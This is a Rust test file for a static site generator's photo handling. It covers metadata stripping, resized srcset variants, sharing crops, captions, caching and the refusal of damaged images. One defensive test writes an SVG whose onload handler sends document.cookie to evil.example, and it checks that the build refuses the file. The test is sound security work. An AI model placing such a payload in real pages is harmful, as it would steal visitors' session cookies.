//! The photo desk in a build: photos published as resized variants without their metadata,
//! with `srcset`, sizes and captions in the page and the feed; bad photos refused at their file.

mod common;

use common::{Fixture, photo_site};
use gensite::photo::samples::SECRET;

const PAGE: &str = "articles/atelier-photo/index.html";
const BASE: &str = "https://example.org/industrie/";

/// Every file of the output, as bytes.
fn output_bytes(site: &Fixture) -> Vec<(String, Vec<u8>)> {
    site.files()
        .into_iter()
        .map(|rel| {
            let bytes = std::fs::read(site.public().join(&rel)).unwrap();
            (rel, bytes)
        })
        .collect()
}

#[test]
fn photos_are_published_as_variants_without_their_metadata() {
    let site = photo_site();
    site.build_ok();
    let files = output_bytes(&site);
    for (rel, bytes) in &files {
        let text = String::from_utf8_lossy(bytes);
        for leak in [SECRET, "Exif\0", "xmpmeta", "GPS"] {
            assert!(!text.contains(leak), "{leak:?} published in {rel}");
        }
    }
    let size = |rel: &str| {
        let (_, bytes) = files
            .iter()
            .find(|(r, _)| r == rel)
            .unwrap_or_else(|| panic!("{rel} is not published"));
        let image = image::load_from_memory(bytes).unwrap();
        (image.width(), image.height())
    };
    // The lead photo, upright: 960×640 capped at the widest setting (640).
    assert_eq!(size("articles/atelier-photo/une.jpg"), (640, 427));
    assert_eq!(size("articles/atelier-photo/une.webp"), (640, 427));
    assert_eq!(size("articles/atelier-photo/une-160.jpg"), (160, 107));
    assert_eq!(size("articles/atelier-photo/une-320.webp"), (320, 213));
    // Narrower than the widest setting: kept at its own width, never enlarged.
    assert_eq!(size("articles/atelier-photo/presse.jpg"), (400, 300));
    assert_eq!(size("articles/atelier-photo/presse-320.jpg"), (320, 240));
    assert!(!site.exists("articles/atelier-photo/presse-640.jpg"));
    // The transparent map stays a PNG.
    assert_eq!(size("articles/atelier-photo/carte.png"), (150, 100));
    assert_eq!(size("articles/atelier-photo/carte.webp"), (150, 100));
    assert!(!site.exists("articles/atelier-photo/une-original.jpg"));
    // The lead photo's crop for sharing: the middle at 1.91:1, 1200 pixels wide at most.
    assert_eq!(size("articles/atelier-photo/une-partage.jpg"), (960, 503));
    assert!(
        !site.exists("articles/atelier-photo/presse-partage.jpg"),
        "body photos get none"
    );
}

#[test]
fn sharing_and_structured_data_get_the_crop_with_its_size() {
    let site = photo_site();
    site.build_ok();
    let page = site.read(PAGE);
    let crop = format!("{BASE}articles/atelier-photo/une-partage.jpg");
    assert!(
        page.contains(&format!("<meta property=\"og:image\" content=\"{crop}\">")),
        "{page}"
    );
    assert!(
        page.contains("<meta property=\"og:image:width\" content=\"960\">"),
        "{page}"
    );
    assert!(
        page.contains("<meta property=\"og:image:height\" content=\"503\">"),
        "{page}"
    );
    assert!(page.contains(&format!("<meta name=\"twitter:image\" content=\"{crop}\">")));
    let json = page
        .split("<script type=\"application/ld+json\">")
        .nth(1)
        .and_then(|rest| rest.split("</script>").next())
        .unwrap();
    let ld: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(
        ld["image"][0],
        serde_json::json!({"@type": "ImageObject", "url": crop, "width": 960, "height": 503})
    );
}

#[test]
fn the_page_shows_the_lead_photo_first_and_body_photos_as_captioned_figures() {
    let site = photo_site();
    site.build_ok();
    let page = site.read(PAGE);
    let lead = page
        .find("<figure class=\"illustration\">")
        .expect("the lead photo");
    let body = page.find("<div class=\"corps\">").unwrap();
    assert!(lead < body, "the lead photo comes before the text");
    if let Some(toc) = page.find("id=\"sommaire\"") {
        assert!(lead < toc, "and before the table of contents");
    }
    assert!(
        page.contains(&format!(
            "<img src=\"{BASE}articles/atelier-photo/une.jpg\" srcset=\"{BASE}articles/atelier-photo/une-160.jpg 160w, {BASE}articles/atelier-photo/une-320.jpg 320w, {BASE}articles/atelier-photo/une.jpg 640w\""
        )),
        "{page}"
    );
    assert!(page.contains("width=\"640\" height=\"427\""), "{page}");
    assert!(page.contains(&format!(
        "<source type=\"image/webp\" srcset=\"{BASE}articles/atelier-photo/une-160.webp 160w"
    )));
    // French typography in the caption (a narrow no-break space before the colon).
    assert!(
        page.contains("<figcaption>L’atelier de Saint-Nazaire\u{a0}: 300 salariés <span class=\"credit\">Photo\u{a0}: DR</span></figcaption>")
            || page.contains("<figcaption>L’atelier de Saint-Nazaire\u{202f}: 300 salariés <span class=\"credit\">Photo\u{202f}: DR</span></figcaption>"),
        "{page}"
    );
    // The body photo with a title: a figure with its caption and credit, loaded lazily.
    let figure = page
        .split("<figure class=\"photo\">")
        .nth(1)
        .and_then(|rest| rest.split("</figure>").next())
        .expect("a body figure");
    assert!(
        figure.contains("alt=\"La presse de 800 tonnes\""),
        "{figure}"
    );
    assert!(figure.contains("loading=\"lazy\""), "{figure}");
    assert!(figure.contains("width=\"400\" height=\"300\""), "{figure}");
    assert!(
        figure.contains("<figcaption>La presse de 800 tonnes <span class=\"credit\">Photo"),
        "{figure}"
    );
    assert!(
        !page.contains("<p><figure"),
        "a figure never sits in a paragraph"
    );
    // An image inside a sentence stays inline, as a picture.
    assert!(page.contains("Une carte <picture>"), "{page}");
    assert!(page.contains(&format!("src=\"{BASE}articles/atelier-photo/carte.png\"")));
    // Feeds carry the same absolute addresses.
    let feed = site.read("atom.xml");
    assert!(
        feed.contains(&format!("{BASE}articles/atelier-photo/presse.jpg")),
        "{feed}"
    );
    assert!(!feed.contains("src=\"presse.jpg\""), "{feed}");
}

#[test]
fn a_second_build_uses_the_cache_and_writes_the_same_bytes() {
    let site = photo_site();
    site.build_ok();
    let first = output_bytes(&site);
    let cache = site.root().join(".gen-cache/photos");
    let entries = std::fs::read_dir(&cache).unwrap().count();
    assert!(
        entries > 0,
        "the processed photos are kept in {}",
        cache.display()
    );
    site.build_ok();
    assert_eq!(output_bytes(&site), first);
    // A damaged cache file is not trusted: the build makes it again, same bytes.
    for entry in std::fs::read_dir(&cache).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "webp") {
            std::fs::write(&path, b"abime").unwrap();
        }
    }
    site.build_ok();
    assert_eq!(output_bytes(&site), first);
}

#[test]
fn a_damaged_or_disguised_photo_stops_the_build_at_its_file() {
    for (name, bytes, expected) in [
        (
            "presse.jpg",
            b"pas une image".to_vec(),
            "not an image gen can read",
        ),
        (
            "presse.jpg",
            gensite::photo::samples::png_with_text(20, 20),
            "holds a PNG image",
        ),
    ] {
        let site = photo_site();
        site.build_ok();
        let before = output_bytes(&site);
        std::fs::write(
            site.root()
                .join("content/articles/atelier-photo")
                .join(name),
            bytes,
        )
        .unwrap();
        let err = site.build().expect_err("refused").to_string();
        assert!(
            err.contains(&format!("content/articles/atelier-photo/{name}: error: "))
                && err.contains(expected),
            "{err}"
        );
        assert_eq!(output_bytes(&site), before, "the old site is left whole");
    }
    // A truncated photo.
    let site = photo_site();
    let whole = std::fs::read(
        site.root()
            .join("content/articles/atelier-photo/presse.jpg"),
    )
    .unwrap();
    std::fs::write(
        site.root()
            .join("content/articles/atelier-photo/presse.jpg"),
        &whole[..whole.len() / 3],
    )
    .unwrap();
    let err = site.build().expect_err("refused").to_string();
    assert!(
        err.contains("presse.jpg") && err.contains("truncated or damaged"),
        "{err}"
    );
}

#[test]
fn an_svg_with_a_script_is_refused_and_an_inert_one_published_as_it_is() {
    let site = photo_site();
    site.build_ok();
    assert!(site.exists("articles/usine-du-futur/usine.svg"));
    site.write(
        "content/articles/atelier-photo/schema.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/'+document.cookie)\"></svg>",
    );
    let err = site.build().expect_err("refused").to_string();
    assert!(
        err.contains("content/articles/atelier-photo/schema.svg: error: this SVG file cannot be published as it is: it holds an event handler"),
        "{err}"
    );
}

#[test]
fn cards_on_the_home_and_term_pages_show_a_thumbnail() {
    let site = photo_site();
    site.build_ok();
    for list in ["index.html", "tags/industrie-du-futur/index.html"] {
        let html = site.read(list);
        let card = html
            .split("<article class=\"carte\">")
            .find(|c| c.contains("atelier-photo/\">"))
            .unwrap_or_else(|| panic!("no card for the photo article in {list}"));
        assert!(
            card.contains(&format!(
                "<img src=\"{BASE}articles/atelier-photo/une.jpg\" srcset=\"{BASE}articles/atelier-photo/une-160.jpg 160w"
            )) && card.contains("sizes=\"8rem\"") && card.contains("loading=\"lazy\""),
            "{list}: {card}"
        );
    }
}
